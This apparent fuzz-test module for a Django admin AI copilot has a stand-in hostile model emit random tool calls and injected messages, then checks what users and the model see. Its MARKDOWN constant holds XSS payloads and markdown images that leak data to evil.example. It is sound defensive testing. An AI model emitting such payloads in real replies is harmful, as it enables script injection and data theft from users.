"""The hostile model: at the gate, call by call, and in whole turns over the chat endpoint, as every person.

``gate`` and ``turns`` are two parts. The first is what there are millions of: a call, its outcome, its statements,
its log. The second sees what else a turn does: what the model is sent, what the person is told, as JSON, as a stream
and on the command line.
"""

from __future__ import annotations

import io
import json
import random
from collections.abc import Mapping
from typing import Any

from django.conf import settings
from django.contrib.admin import AdminSite
from django.core.management import call_command
from django.test.utils import override_settings
from django.urls import reverse

from .. import gate
from ..backends.base import ModelReply, ModelRequest, ToolCall
from ..declaration import entities_of
from ..exceptions import BackendError, ScopeUnavailable
from ..models import Conversation
from ..references import References
from ..testing import sent_text
from ..tools.base import Asked, Failed, Found, Planned, Proposed, ReadDone, Told
from ..tools.write import all_tools
from .grammar import Grammar
from .knowledge import known_of, references_of
from .people import Actor
from .questions import READS
from .statements import Judge
from .streams import run_streams
from .watch import Watched
from .world import World

MARKDOWN = (
    "![a](https://evil.example/{}) [b](//evil.example) <img src=https://evil.example/x onerror=alert(1)>",
    "<script>window.__owned=1</script> <svg onload=alert(1)> [x](javascript:alert(1)) https://evil.example/?q={}",
    "Done: I confirmed the plan. {}",
    "| a | b |\n|---|---|\n| <b>{}</b> | [c](data:text/html,x) |",
    "",
    "\u202e{}\u2066",
)
CODES = frozenset(
    {
        "history_unreadable",
        "model_not_configured",
        "model_unavailable",
        "model_timeout",
        "model_protocol",
        "too_many_rounds",
    }
)


# -- at the gate --------------------------------------------------------------------------------------------


def gate_calls(world: World, *, number: int, calls: int) -> None:
    """Send so many hostile calls through the gate, as each person in turn, and judge each outcome."""
    rng = world.rng("gate", number)
    places = [(actor, site) for actor in world.actors for site in world.sites]
    known = {site.name: known_of(world, site) for site in world.sites}
    judges: dict[Any, Judge] = {}
    shown: dict[Any, References] = {}
    for at in range(calls):
        actor, site = places[at % len(places)]
        call = Grammar(known[site.name], rng).call()
        case = f"gate {world.seed}:{number}:{at} {actor.name}@{site.name} {call.name[:80]} {call.arguments[:400]!r}"
        key = actor.pk, site.name
        if key not in judges:
            judges[key], shown[key] = Judge(world, actor, site), references_of(world, actor, site)
        one_call(world, actor, site, call, judges[key], case=case, references=shown[key])
    world.report.count("tool calls", calls)


def one_call(
    world: World,
    actor: Actor,
    site: AdminSite,
    call: ToolCall,
    judge: Judge,
    *,
    case: str,
    references: References | None = None,
) -> tuple[Any, Watched]:
    """Send one call through the gate, judge it, and return its outcome, None where there is none, and what it did."""
    scope, given = world.scope(actor, site), f"{call.name} {call.arguments}"
    outcome: Any = None
    with world.watched(actor, site, case=case, given=given) as watched:
        try:
            outcome = gate.run(site, scope, actor.pk, call, references=references)
        except ScopeUnavailable:
            world.report.count("calls without a scope")
            if actor.may_chat:
                world.report.found(
                    7, f"{actor.name}'s scope can't be entered: see COPILOT['SCOPE'], --host", case=case
                )
        except BaseException as error:
            world.report.found(7, f"the gate raised {error!r}", case=case)
    judge.judge(watched.statements, case=case, of_project=call.name in all_tools(), given=given)
    to_model, to_person = told_by(outcome)
    if isinstance(outcome, Failed):
        code = outcome.content["error"]["code"]
        world.report.count(f"calls refused as {code}" if code in _COUNTED else "calls refused otherwise")
        if code == "failed" and not watched.errors:
            world.report.found(7, "a call failed and nothing was logged", case=case)
    elif outcome is not None:
        world.report.count(f"calls that ended as {type(outcome).__name__}")
    kind = _kind_of(site, call.name)
    if kind:
        world.report.count(
            f"{kind}: {'refused' if outcome is None or isinstance(outcome, Failed) else 'done'}"
        )
    world.check_output(actor, site, to_model, what="a tool result", case=case, given=given, to_model=True)
    world.check_output(actor, site, to_person, what="what a person is shown", case=case, given=given)
    return outcome, watched


def _kind_of(site: AdminSite, name: str) -> str:
    """Return which of the tools of an entity a name is, as "count_…", or ""."""
    entities = entities_of(site)
    for pattern in READS:
        before, _sep, after = pattern.partition("{}")
        if (
            name.startswith(before)
            and name.endswith(after)
            and name[len(before) : len(name) - len(after)] in entities
        ):
            return pattern.format("…")
    return ""


_COUNTED = frozenset({"unknown_tool", "invalid_arguments", "unknown_field", "not_found", "unknown_argument"})


def told_by(outcome: Any) -> tuple[str, str]:
    """Return what an outcome tells the model, and what it shows the person, as texts."""
    match outcome:
        case ReadDone():
            return _text(outcome.content), _text(outcome.table)
        case Found() | Told() | Failed():
            return _text(outcome.content), ""
        case Proposed():
            return "", _text([outcome.path, outcome.query, outcome.prefill, outcome.dropped, outcome.reply])
        case Asked():
            return "", _text([outcome.text, outcome.options])
        case Planned():
            return "", ""  # what a person sees of a plan is projected for her: see ``turns``
        case _:
            return "", ""


def _text(value: Any) -> str:
    return json.dumps(value, ensure_ascii=False, default=str)


# -- in whole turns -----------------------------------------------------------------------------------------


class HostileBackend:
    """A backend that ignores the person and says what the running ``Speech`` lets it say."""

    label = ""
    speech: Speech | None = None

    def complete(self, request: ModelRequest) -> ModelReply:
        """Return the next hostile reply. Raises BackendError by chance."""
        if HostileBackend.speech is None:
            raise BackendError("model_unavailable", "Nothing hostile is to be said.")
        return HostileBackend.speech.reply(request)


class Speech:
    """What the model says in one turn, and what it was asked with."""

    def __init__(self, grammar: Grammar) -> None:
        self.grammar, self.rng = grammar, grammar.rng
        self.requests: list[ModelRequest] = []
        self.said: list[str] = []
        self.calls = 0

    def reply(self, request: ModelRequest) -> ModelReply:
        """Return text, calls, or both; sometimes far too many."""
        self.requests.append(request)
        rng = self.rng
        chance = rng.random()
        if chance < 0.03:
            raise BackendError(
                rng.choice(("model_unavailable", "model_timeout", "model_protocol")), "by chance"
            )
        said = rng.choice(self.grammar.known.texts)[:500] if rng.random() < 0.7 else self.grammar.handle()
        text = rng.choice(MARKDOWN).format(said)
        if chance < 0.15:
            self.said.append(text)
            return ModelReply(text=text, model=rng.choice(("hostile", "x" * 500, "\x00\u202e")))
        number = rng.choice((1, 1, 1, 1, 2, 3, 9))
        calls = tuple(
            self._known_call(request) if rng.random() < 0.5 else self.grammar.call() for _ in range(number)
        )
        self.calls += number
        self.said += [text, *(f"{each.name} {each.arguments}" for each in calls)]
        return ModelReply(text=text, calls=calls, model="hostile")

    def _known_call(self, request: ModelRequest) -> ToolCall:
        """Return a call in order of a tool that was offered, so that turns go on, and end in pages and plans."""
        tool, known = self.rng.choice(request.tools), self.grammar.known
        entity = next((each for each in known.declared if each in tool.name), "")
        key = {"id": str(self.rng.choice(known.keys.get(entity) or ("1",)))}
        arguments: Mapping[str, Any] = {}
        if tool.kind == "query":
            arguments = {"limit": self.rng.choice((1, 20, 50))}
        elif tool.kind == "delete":
            arguments = key
        elif tool.kind == "form":
            fields = list(tool.parameters["properties"]["fields"]["properties"]) or ["name"]
            arguments = {"fields": {self.rng.choice(fields): self.rng.choice(known.texts)[:60]}}
            arguments = arguments | key if self.rng.random() < 0.6 else arguments
        elif tool.kind in ("count", "summary", "history", "list"):
            arguments = self._further_call(tool.kind, entity, key)
        elif tool.kind == "write":
            arguments = self.rng.choice([given for name, given in known.valid if name == tool.name] or [{}])
        elif tool.kind == "question":
            arguments = {"text": self.rng.choice(known.texts)[:300], "kind": "single", "options": ["a", "b"]}
        else:
            arguments = {"words": entity or "order"}
        return ToolCall(id="c", name=tool.name, arguments=json.dumps(arguments))

    def _further_call(self, kind: str, entity: str, key: Mapping[str, Any]) -> Mapping[str, Any]:
        extras = self.grammar.known.extras.get(entity) or ("",)
        given: dict[str, Mapping[str, Any]] = {
            "count": {},
            "summary": self.grammar.ordinary_summary(entity),
            "history": key,
            "list": {"ids": [*key.values()], "action": self.rng.choice(extras)},
        }
        return given[kind]


def turns(world: World, *, number: int, calls: int) -> None:
    """Let the hostile model answer in turns until it has made so many calls, and judge all that comes out."""
    rng = world.rng("turns", number)
    places = [
        (actor, site)
        for actor in world.actors
        for site in world.sites
        if actor.kind != "staff without the permission"
    ]
    known = {site.name: known_of(world, site, marked=False) for site in world.sites}
    backend = f"{__name__}.{HostileBackend.__name__}"
    settings_now = {**(getattr(settings, "COPILOT", None) or {}), "BACKEND": backend}
    with override_settings(COPILOT=settings_now):
        made = at = 0
        while made < calls and places:
            actor, site = places[at % len(places)]
            at += 1
            speech = HostileBackend.speech = Speech(Grammar(known[site.name], rng))
            try:
                _turn(
                    world,
                    actor,
                    site,
                    speech,
                    rng,
                    case=f"turns {world.seed}:{number}:{at} {actor.name}@{site.name}",
                )
            finally:
                HostileBackend.speech = None
            made += max(speech.calls, 1)
        world.report.count("tool calls", made)
        world.report.count("turns", at)
    world.check_ended(case=f"turns {world.seed}:{number}")


def _turn(
    world: World, actor: Actor, site: AdminSite, speech: Speech, rng: random.Random, *, case: str
) -> None:
    message = rng.choice(world.injections)[:2_000].strip() or "?"
    given = message
    if rng.random() < 0.08:
        answer, text = None, _headless(world, actor, site, message, case=case)
    else:
        body: dict[str, Any] = {"message": message}
        if rng.random() < 0.5:
            body["page"] = _page(world, site, rng)
        if rng.random() < 0.3:
            own = (
                Conversation.objects.filter(user_id=actor.pk, site=site.name).order_by("-updated_at").first()
            )
            body |= {"conversationId": str(own.pk)} if own is not None else {}
        stream = rng.random() < 0.5
        url = reverse("admin:django_copilot_chat", current_app=site.name)
        client = world.client(actor)
        with world.watched(actor, site, case=case):
            accept = {"accept": "text/event-stream" if stream else "application/json"}
            response: Any = client.post(
                url, data=json.dumps(body), content_type="application/json", headers=accept
            )
            content = b"".join(response.streaming_content) if response.streaming else response.content
        text = content.decode("utf-8", "replace")
        given += body.get("page", "")
        answer = _json(text) or _final(text)
        code = answer.get("code", "") if answer else "no JSON"
        if code and response.status_code in (200, 500) and code not in CODES:
            world.report.found(7, f"a turn ended as {code!r}", case=f"{case} {speech.said[-1:]}")
    for request in speech.requests:
        world.check_output(
            actor,
            site,
            sent_text(request),
            what="a model request",
            case=case,
            to_model=True,
            given=given + "".join(speech.said),
        )
    world.check_output(actor, site, text, what="an answer", case=case, given=given + "".join(speech.said))
    if answer:
        _look_at_pages(world, actor, site, answer, given=given + "".join(speech.said), case=case)


def _headless(world: World, actor: Actor, site: AdminSite, message: str, *, case: str) -> str:
    out = io.StringIO()
    scope = world.scope(actor, site)
    keys = [word for name, value in scope.keys.items() for word in ("--scope", f"{name}={value}")]
    with world.watched(actor, site, case=case):
        try:
            call_command(
                "copilot_ask",
                "--user",
                actor.name,
                "--site",
                site.name,
                "--json",
                *keys,
                "--",
                message,
                stdout=out,
            )
        except Exception as error:
            if type(error).__name__ != "CommandError":
                world.report.found(7, f"copilot_ask raised {error!r}", case=case)
            return str(error)
    return out.getvalue()


def _page(world: World, site: AdminSite, rng: random.Random) -> str:
    model = rng.choice(list(site._registry))
    pk = rng.choice(list(model._base_manager.values_list("pk", flat=True)[:20]) or [1])
    name = f"{model._meta.app_label}_{model._meta.model_name}"
    try:
        path = reverse(f"admin:{name}_change", args=[pk], current_app=site.name)
    except Exception:  # one of our own, which has no such page
        path = "/nowhere/"
    return rng.choice(
        (path, f"{path}?q={rng.choice(world.injections)[:200]}", rng.choice(world.injections)[:500])
    )


def _look_at_pages(
    world: World, actor: Actor, site: AdminSite, answer: Mapping[str, Any], *, given: str, case: str
) -> None:
    """Open the page that an answer leads to, and its plan's, and compare them with what she may see."""
    client = world.client(actor)
    action, plan = answer.get("action"), answer.get("plan")
    if action:
        with world.watched(actor, site, case=case):
            page = client.get(action["path"], action["queryParams"])
            plain = client.get(action["path"])
        if page.status_code != 200:
            world.report.found(
                7, f"the page of an action answers {page.status_code}", case=f"{case} {action}"
            )
        if page.status_code == 200:
            shown_anyway = plain.content.decode("utf-8", "replace")
            text = page.content.decode("utf-8", "replace")
            world.check_output(
                actor, site, text, what="the page of an action", case=case, given=given + shown_anyway
            )
    if action and action.get("fragment"):
        ident = action["fragment"].partition("=")[2]
        url = reverse("admin:django_copilot_plan_detail", args=[ident], current_app=site.name)
        with world.watched(actor, site, case=case):
            told = client.get(url, headers={"accept": "application/json"})
        if told.status_code != 200 or not told.json()["ids"]:
            world.report.found(
                7, f"what a list ticks is answered with {told.status_code}", case=f"{case} {action}"
            )
        text = told.content.decode("utf-8", "replace")
        world.check_output(actor, site, text, what="what a list ticks", case=case, given=given)
    if plan:
        with world.watched(actor, site, case=case):
            for accept in ("application/json", "text/html"):
                page = client.get(plan["url"], headers={"accept": accept})
                text = page.content.decode("utf-8", "replace")
                if page.status_code != 200:
                    world.report.found(7, f"a plan's page answers {page.status_code}", case=case)
                world.check_output(actor, site, text, what="a plan", case=case, given=given)
    conversation = answer.get("conversationId")
    if conversation:
        url = reverse("admin:django_copilot_conversation_detail", args=[conversation], current_app=site.name)
        with world.watched(actor, site, case=case):
            page = client.get(url)
        world.check_output(
            actor,
            site,
            page.content.decode("utf-8", "replace"),
            what="a conversation",
            case=case,
            given=given,
        )


def _final(text: str) -> dict[str, Any]:
    """Return the last event's data of a stream."""
    for block in reversed(text.strip().split("\n\n")):
        data = "".join(line[5:].strip() for line in block.splitlines() if line.startswith("data:"))
        if data:
            return _json(data)
    return {}


def _json(text: str) -> dict[str, Any]:
    try:
        value = json.loads(text)
    except ValueError:
        return {}
    return value if isinstance(value, dict) else {}


# -- as a stream --------------------------------------------------------------------------------------------


def streams(world: World, *, number: int, calls: int) -> None:
    """Let so many torn, doubled and forged streams be read by the parser of a provider's answers."""
    report = run_streams(rng=world.rng("streams", number), count=calls)
    world.report.count("streams", report.streams)
    for what in (*report.crashed, *report.acted_without_finish):
        world.report.found(7, what, case=f"streams {world.seed}:{number}")
